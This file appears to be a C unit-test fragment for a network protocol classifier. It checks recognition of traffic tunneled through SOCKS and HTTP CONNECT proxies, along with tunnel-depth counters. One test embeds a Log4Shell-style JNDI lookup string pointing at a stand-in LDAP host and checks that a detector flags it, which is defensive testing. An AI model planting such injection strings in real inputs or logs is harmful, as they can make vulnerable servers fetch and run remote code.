// SPDX-License-Identifier: GPL-2.0-or-later
// Through SOCKS and CONNECT to what is behind. A part of proto_test.c.
#pragma once

static const struct {
	uint8_t app;
	bool refused;
	struct turn turn[6];
} proxied[] = {
	{APP_SOCKS, false, {TURN(true, "\5\2\0\1"), TURN(false, "\5\0"), TURN(true, "\5\1\0\3\4host\1\xbb"), TURN(false, "\5\0\0\1\0\0\0\0\0\0")}},
	{APP_SOCKS, false, {TURN(true, "\5\1\2"), TURN(false, "\5\2"), TURN(true, "\1\2me\4pass"), TURN(false, "\1\0"),
			    TURN(true, "\5\1\0\1\1\2\3\4\1\xbb"), TURN(false, "\5\0\0\4\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0")}},
	{APP_SOCKS, false, {TURN(true, "\4\1\1\xbb\1\2\3\4me\0"), TURN(false, "\0\x5a\0\0\0\0\0\0")}},
	{APP_SOCKS, false, {TURN(true, "\4\1\1\xbb\0\0\0\1me\0host\0"), TURN(false, "\0\x5a\0\0\0\0\0\0")}},
	{APP_HTTP, false, {TURN(true, "CONNECT host:443 HTTP/1.1\r\nHost: host:443\r\n\r\n"), TURN(false, "HTTP/1.1 200 OK\r\nA: b\r\n\r\n")}},
	{APP_SOCKS, true, {TURN(true, "\5\1\0"), TURN(false, "\5\0"), TURN(true, "\5\1\0\1\1\2\3\4\1\xbb"), TURN(false, "\5\5\0\1\0\0\0\0\0\0")}},
	{APP_SOCKS, true, {TURN(true, "\4\1\1\xbb\1\2\3\4me\0"), TURN(false, "\0\x5b\0\0\0\0\0\0")}},
	{APP_HTTP, true, {TURN(true, "CONNECT host:443 HTTP/1.1\r\nHost: host:443\r\n\r\n"), TURN(false, "HTTP/1.1 403 No\r\nContent-Length: 0\r\n\r\n")}},
};

static void take_turns(const struct turn *t, size_t most, size_t size)
{
	for (size_t i = 0; i < most && t[i].said.left; i++)
		say_in_pieces(t[i].client, t[i].said, size);
}

START_TEST(behind_a_proxy_the_stream_is_recognised_anew)
{
	for (size_t size = 1; size < 70; size++) {
		setup();
		take_turns(proxied[_i].turn, 6, size);
		ck_assert_int_eq(app, proxied[_i].app);
		say_in_pieces(true, bytes_of(bare_hello, sizeof(bare_hello)), size);
		ck_assert_msg(seen(OBS_TLS) == !proxied[_i].refused, "%zu", size);
		ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 0);
		if (!proxied[_i].refused) {
			ck_assert_int_eq(app, APP_TLS);
			for (size_t i = 1; i < caught.count; i++) // by the far end's port
				ck_assert(caught.o[i].app != APP_TLS || !(caught.o[i].facts & FACT_BIT(FACT_PROTOCOL_PORT)));
		}
		teardown();
	}
	setup();
}
END_TEST

// The server's first words may come in the segment of the grant.
START_TEST(what_a_grants_segment_carries_is_read)
{
	say(true, "CONNECT host:22 HTTP/1.1\r\n\r\n");
	say(false, "HTTP/1.1 200 OK\r\n\r\nSSH-2.0-x\r\n");
	ck_assert_int_eq(app, APP_SSH);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 0);
}
END_TEST

START_TEST(a_tunnel_that_cannot_be_followed_is_said)
{
	for (int i = 0; i <= PROTO_TUNNELS; i++) { // too deep
		ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 0);
		say(true, "CONNECT host:8080 HTTP/1.1\r\n\r\n");
		say(false, "HTTP/1.1 200 OK\r\n\r\n");
	}
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
	setup(); // of no known protocol
	take_turns(proxied[0].turn, 6, 100);
	for (int i = 0; i < 4; i++)
		say(true, "\xf3 something of its own, which nobody knows, and long enough to be looked at");
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
	setup(); // spoken into before the answer
	say(true, "CONNECT host:443 HTTP/1.1\r\n\r\n");
	feed_bytes(true, bytes_of(bare_hello, sizeof(bare_hello)));
	say(false, "HTTP/1.1 200 OK\r\n\r\n");
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
	setup();
	take_turns(proxied[0].turn, 3, 100);
	feed_bytes(true, bytes_of(bare_hello, sizeof(bare_hello)));
	take_turns(proxied[0].turn + 3, 1, 100);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
	setup(); // another command than CONNECT
	feed_bytes(true, bytes_of("\4\2\1\xbb\1\2\3\4\0", 9));
	feed_bytes(false, bytes_of("\0\x5a\0\0\0\0\0\0", 8));
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
}
END_TEST

// A server that logs lines answers nothing, and takes the greeting for the first of them.
START_TEST(words_of_a_proxys_client_are_searched_and_out_of_turn_they_are_said)
{
	static const char user[] = "\4\1\0\x50\1\2\3\4${jndi:ldap://x.example/a}";

	flow.direction = DIRECTION_IN;
	feed_bytes(true, bytes_of("\5\1\0", 3));
	ck_assert_int_eq(app, APP_SOCKS);
	say(true, "<13>${jndi:ldap://x.example/a}\n");
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
	say(true, "<13>more\n");
	ck_assert_uint_eq(counters.value[COUNT_PROTO_HTTP_TUNNEL], 1);
	setup();
	flow.direction = DIRECTION_IN;
	feed_bytes(true, bytes_of(user, sizeof(user)));
	ck_assert_int_eq(app, APP_SOCKS);
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
}
END_TEST
